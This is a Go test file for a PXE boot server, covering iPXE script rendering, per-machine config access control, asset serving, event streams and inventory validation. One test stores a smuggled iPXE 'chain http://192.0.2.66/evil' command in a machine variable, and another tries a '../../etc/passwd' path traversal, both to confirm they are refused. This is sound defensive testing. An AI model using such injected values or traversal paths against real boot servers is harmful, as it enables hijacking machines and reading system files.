package pxe

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"math/rand/v2"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os/exec"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/pxekit/pxekit/macaddr"
	"github.com/pxekit/pxekit/pxetest"
)

var (
	macA = net.HardwareAddr{0x52, 0x54, 0x00, 0x6b, 0x13, 0xe2}
	macB = net.HardwareAddr{0x52, 0x54, 0x00, 0x69, 0xd5, 0x92}
)

func testInventory() InventorySpec {
	return InventorySpec{
		Machines: []Machine{
			{MAC: macA, Hostname: "node1", Profile: "create", Vars: map[string]string{"token": "s3cret"}},
			{MAC: macB, Hostname: "node2", Profile: "join"},
		},
		Profiles: map[string]Profile{
			"create": {
				Kernel: "vmlinuz", Initrd: "initrd.gz",
				Args:  []string{"console=ttyS0", "ip=dhcp", "pxekit.phonehome={{.BaseURL}}/phonehome?mac={{.MAC}}", "quiet"},
				Files: map[string]string{"config.yaml": "hostname: {{.Hostname}}\ntoken: {{.Vars.token}}\n"},
			},
			"join": {
				Script: "#!ipxe\nkernel {{.BaseURL}}/assets/vmlinuz console=ttyS0 mode=join\ninitrd {{.BaseURL}}/assets/initrd.gz\nboot\n",
			},
		},
	}
}

// testHandler serves the inventory with leases mapping 192.0.2.10 → macA
// and 192.0.2.11 → macB, as the DHCP server's lease table would.
func testHandler(t *testing.T, assets fstest.MapFS) (*handler, *Bus) {
	t.Helper()
	inv, err := NewStaticInventory(testInventory())
	if err != nil {
		t.Fatal(err)
	}
	bus := &Bus{}
	leases := map[netip.Addr]net.HardwareAddr{
		netip.MustParseAddr("192.0.2.10"): macA,
		netip.MustParseAddr("192.0.2.11"): macB,
	}
	return &handler{
		inv: inv, assets: assets, bus: bus, baseURL: "http://192.0.2.1:8080",
		macForIP: func(ip netip.Addr) (net.HardwareAddr, bool) { m, ok := leases[ip]; return m, ok },
		log:      slog.New(slog.NewTextHandler(io.Discard, nil)),
	}, bus
}

// staticInv is the test handler's inventory, to change.
func staticInv(h *handler) *StaticInventory { return h.inv.(*StaticInventory) }

// must fails the test on a refused inventory change.
func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func do(h http.Handler, method, target, remote string, hdr map[string]string) *httptest.ResponseRecorder {
	r := httptest.NewRequest(method, target, nil)
	r.RemoteAddr = remote
	for k, v := range hdr {
		r.Header.Set(k, v)
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	return w
}

func TestScriptPerMachineAndFirmware(t *testing.T) {
	h, _ := testHandler(t, nil)
	tests := []struct {
		name, target string
		code         int
		want         []string
		notWant      []string
	}{
		{"bios", "/boot.ipxe?mac=52:54:00:6b:13:e2", 200,
			[]string{"#!ipxe\n", "kernel http://192.0.2.1:8080/assets/vmlinuz console=ttyS0 ip=dhcp pxekit.phonehome=http://192.0.2.1:8080/phonehome?mac=52:54:00:6b:13:e2 quiet\n", "initrd http://192.0.2.1:8080/assets/initrd.gz\n", "boot\n"},
			[]string{"initrd=initrd.gz"}},
		{"efi needs initrd= on the kernel line", "/boot.ipxe?mac=52-54-00-6B-13-E2&fw=efi", 200,
			[]string{"initrd=initrd.gz"}, nil},
		{"script template", "/boot.ipxe?mac=52:54:00:69:d5:92", 200,
			[]string{"mode=join", "kernel http://192.0.2.1:8080/assets/vmlinuz"}, nil},
		{"unknown machine, no default", "/boot.ipxe?mac=52:54:00:00:00:01", 403, nil, nil},
		{"bad mac", "/boot.ipxe?mac=zz", 400, nil, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := do(h, "GET", tt.target, "192.0.2.99:4000", nil)
			if w.Code != tt.code {
				t.Fatalf("status %d, want %d: %s", w.Code, tt.code, w.Body)
			}
			for _, s := range tt.want {
				if !strings.Contains(w.Body.String(), s) {
					t.Errorf("script lacks %q:\n%s", s, w.Body)
				}
			}
			for _, s := range tt.notWant {
				if strings.Contains(w.Body.String(), s) {
					t.Errorf("script has %q:\n%s", s, w.Body)
				}
			}
		})
	}
}

func TestScriptMACFromLease(t *testing.T) {
	h, _ := testHandler(t, nil)
	w := do(h, "GET", "/boot.ipxe", "192.0.2.11:5000", nil)
	if w.Code != 200 || !strings.Contains(w.Body.String(), "mode=join") {
		t.Fatalf("lease-derived machine: %d %s", w.Code, w.Body)
	}
}

func TestDefaultProfileForUnknown(t *testing.T) {
	h, _ := testHandler(t, nil)
	must(t, staticInv(h).SetDefault("join"))
	w := do(h, "GET", "/boot.ipxe?mac=52:54:00:00:00:01", "192.0.2.99:4000", nil)
	if w.Code != 200 || !strings.Contains(w.Body.String(), "mode=join") {
		t.Fatalf("default profile: %d %s", w.Code, w.Body)
	}
}

func TestInjectionThroughInventoryRefused(t *testing.T) {
	h, bus := testHandler(t, nil)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	events := bus.Subscribe(ctx)
	inv := staticInv(h)
	must(t, inv.SetProfile("create", Profile{Kernel: "vmlinuz", Args: []string{"x={{.Vars.x}}"}}))
	must(t, inv.SetMachine(Machine{MAC: macA, Hostname: "node1", Profile: "create", Vars: map[string]string{"x": "a\nchain http://192.0.2.66/evil"}}))
	w := do(h, "GET", "/boot.ipxe?mac=52:54:00:6b:13:e2", "192.0.2.10:4000", nil)
	if w.Code != 500 || strings.Contains(w.Body.String(), "chain") {
		t.Fatalf("injected value must not render: %d %q", w.Code, w.Body)
	}
	if e := <-events; e.Kind != EventDenied || !macaddr.Equal(e.MAC, macA) {
		t.Fatalf("event %+v, want denied for %s", e, macA)
	}
}

func TestMachineFileOnlyToItsMachine(t *testing.T) {
	h, bus := testHandler(t, nil)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	events := bus.Subscribe(ctx)

	w := do(h, "GET", "/machines/52:54:00:6b:13:e2/config.yaml", "192.0.2.10:4000", nil)
	if w.Code != 200 || w.Body.String() != "hostname: node1\ntoken: s3cret\n" {
		t.Fatalf("own config: %d %q", w.Code, w.Body)
	}
	if e := <-events; e.Kind != EventConfigServed || !macaddr.Equal(e.MAC, macA) {
		t.Fatalf("event %+v", e)
	}
	for _, remote := range []string{"192.0.2.11:4000", "192.0.2.99:4000"} {
		w = do(h, "GET", "/machines/52:54:00:6b:13:e2/config.yaml", remote, nil)
		if w.Code != 403 || strings.Contains(w.Body.String(), "s3cret") {
			t.Fatalf("config of node1 fetched from %s: %d %q", remote, w.Code, w.Body)
		}
		e := <-events
		if e.Kind != EventDenied || strings.Contains(e.Detail, "s3cret") {
			t.Fatalf("denial event %+v", e)
		}
	}
}

func TestAssetsRangeETagAndEvents(t *testing.T) {
	data := make([]byte, 1<<20)
	for i := range data {
		data[i] = byte(rand.IntN(256))
	}
	mod := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	h, bus := testHandler(t, fstest.MapFS{"vmlinuz": {Data: data, ModTime: mod}})
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	events := bus.Subscribe(ctx)

	w := do(h, "GET", "/assets/vmlinuz", "192.0.2.10:1", map[string]string{"Range": "bytes=1000-1999"})
	if w.Code != http.StatusPartialContent || !bytes.Equal(w.Body.Bytes(), data[1000:2000]) {
		t.Fatalf("range: %d, %d bytes", w.Code, w.Body.Len())
	}
	if e := <-events; e.Kind != EventAssetSent || !macaddr.Equal(e.MAC, macA) || !strings.Contains(e.Detail, "1000 bytes") {
		t.Fatalf("event %+v", e)
	}
	full := do(h, "GET", "/assets/vmlinuz", "192.0.2.10:1", nil)
	tag := full.Header().Get("Etag")
	if full.Code != 200 || tag == "" || !bytes.Equal(full.Body.Bytes(), data) {
		t.Fatalf("full: %d etag=%q", full.Code, tag)
	}
	<-events
	if w := do(h, "GET", "/assets/vmlinuz", "192.0.2.10:1", map[string]string{"If-None-Match": tag}); w.Code != http.StatusNotModified {
		t.Fatalf("If-None-Match: %d", w.Code)
	}
	if w := do(h, "GET", "/assets/vmlinuz", "192.0.2.10:1", map[string]string{"If-Modified-Since": mod.Format(http.TimeFormat)}); w.Code != http.StatusNotModified {
		t.Fatalf("If-Modified-Since: %d", w.Code)
	}
	for _, p := range []string{"/assets/missing", "/assets/../../etc/passwd", "/assets/"} {
		if w := do(h, "GET", p, "192.0.2.10:1", nil); w.Code == 200 {
			t.Fatalf("%s served", p)
		}
	}
}

// curl, a real client, fetches byte ranges and whole files from a real
// listener on loopback.
func TestCurlRanges(t *testing.T) {
	curl := pxetest.RequireCmd(t, "curl", "curl")
	data := make([]byte, 3<<20)
	for i := range data {
		data[i] = byte(rand.IntN(256))
	}
	h, _ := testHandler(t, fstest.MapFS{"initrd.gz": {Data: data, ModTime: time.Now()}})
	srv := httptest.NewServer(h)
	defer srv.Close()
	for _, rg := range []struct {
		spec     string
		from, to int
	}{
		{"0-0", 0, 1}, {"1048576-2097151", 1 << 20, 2 << 20}, {"3145000-", 3145000, len(data)},
	} {
		out, err := exec.Command(curl, "-sS", "--fail", "-r", rg.spec, srv.URL+"/assets/initrd.gz").Output()
		if err != nil {
			t.Fatalf("curl -r %s: %v", rg.spec, err)
		}
		if !bytes.Equal(out, data[rg.from:rg.to]) {
			t.Fatalf("curl -r %s: got %d bytes, want %d matching", rg.spec, len(out), rg.to-rg.from)
		}
	}
	out, err := exec.Command(curl, "-sS", "--fail", srv.URL+"/assets/initrd.gz").Output()
	if err != nil || !bytes.Equal(out, data) {
		t.Fatalf("curl whole file: %v, %d bytes", err, len(out))
	}
}

func TestEventStream(t *testing.T) {
	h, bus := testHandler(t, nil)
	srv := httptest.NewServer(h)
	defer srv.Close()
	for _, sse := range []bool{false, true} {
		req, _ := http.NewRequest("GET", srv.URL+"/events?mac="+macB.String(), nil)
		if sse {
			req.Header.Set("Accept", "text/event-stream")
		}
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		resp, err := http.DefaultClient.Do(req.WithContext(ctx))
		if err != nil {
			t.Fatal(err)
		}
		bus.Publish(Event{MAC: macA, Kind: EventAcked})
		bus.Publish(Event{MAC: macB, Kind: EventPhonedHome, Detail: "hi"})
		sc := bufio.NewScanner(resp.Body)
		var got Event
		for sc.Scan() {
			line := strings.TrimPrefix(sc.Text(), "data: ")
			if strings.HasPrefix(line, "{") {
				if err := json.Unmarshal([]byte(line), &got); err != nil {
					t.Fatal(err)
				}
				break
			}
		}
		cancel()
		resp.Body.Close()
		if !macaddr.Equal(got.MAC, macB) || got.Kind != EventPhonedHome || got.Detail != "hi" {
			t.Fatalf("sse=%v: first event %+v, want macB phoned-home (filtered)", sse, got)
		}
	}
}

// ?for= and ?until= bound a stream: it ends by itself; a bad value is
// refused, saying what it wants.
func TestEventStreamFor(t *testing.T) {
	h, _ := testHandler(t, nil)
	srv := httptest.NewServer(h)
	defer srv.Close()
	resp, err := http.Get(srv.URL + "/events?for=200ms")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := io.ReadAll(resp.Body); err != nil {
		t.Errorf("a bounded stream did not end cleanly: %v", err)
	}
	resp.Body.Close()
	h2, bus := testHandler(t, nil)
	srv2 := httptest.NewServer(h2)
	defer srv2.Close()
	done := make(chan []byte)
	go func() {
		resp, err := http.Get(srv2.URL + "/events?until=phoned-home&mac=" + macB.String())
		if err != nil {
			done <- nil
			return
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		done <- b
	}()
	for got := false; !got; {
		select {
		case b := <-done:
			if n := strings.Count(string(b), "\n"); n != 2 || !strings.Contains(string(b), `"kind":"phoned-home"`) {
				t.Errorf("until=phoned-home ended with %d events:\n%s\nwant the acked and the phoned-home of macB", n, b)
			}
			got = true
		case <-time.After(50 * time.Millisecond):
			bus.Publish(Event{MAC: macA, Kind: EventPhonedHome}) // another machine's: the stream goes on
			bus.Publish(Event{MAC: macB, Kind: EventAcked})
			bus.Publish(Event{MAC: macB, Kind: EventPhonedHome})
		}
	}
	for _, bad := range []string{"for=soon", "for=-1s", "for=0", "until=rebooted"} {
		w := do(h, "GET", "/events?"+bad, "192.0.2.10:4000", nil)
		if w.Code != http.StatusBadRequest || !strings.Contains(w.Body.String(), strings.Split(bad, "=")[0]+": ") {
			t.Errorf("for=%s: %d %q, want 400 saying what it wants", bad, w.Code, w.Body.String())
		}
	}
}

func TestInventoryValidate(t *testing.T) {
	inv := testInventory()
	inv.Machines = append(inv.Machines, Machine{MAC: macA, Profile: "nope"}, Machine{MAC: net.HardwareAddr{1, 2}, Profile: "join"})
	inv.Default = "missing"
	inv.Profiles["empty"] = Profile{}
	errs := inv.Validate()
	var fields []string
	for _, e := range errs {
		fields = append(fields, e.Field)
	}
	if got, want := strings.Join(fields, " "), "machines[2].mac machines[2].profile machines[3].mac default profiles[empty]"; got != want {
		t.Errorf("error paths %q, want %q", got, want)
	}
	err := errs.ToAggregate()
	for _, s := range []string{`machines[2].mac: Duplicate value: "52:54:00:6b:13:e2 (also machines[0])"`, `machines[2].profile: Invalid value: "nope": is not a profile (have create, empty, join)`,
		"machines[3].mac", `default: Invalid value: "missing"`, "profiles[empty]: Required value: needs a kernel or a script"} {
		if !strings.Contains(err.Error(), s) {
			t.Errorf("error lacks %q: %v", s, err)
		}
	}
	if _, err := NewStaticInventory(inv); err == nil || !strings.Contains(err.Error(), "machines[3].mac") {
		t.Errorf("NewStaticInventory accepted an invalid spec: %v", err)
	}
}
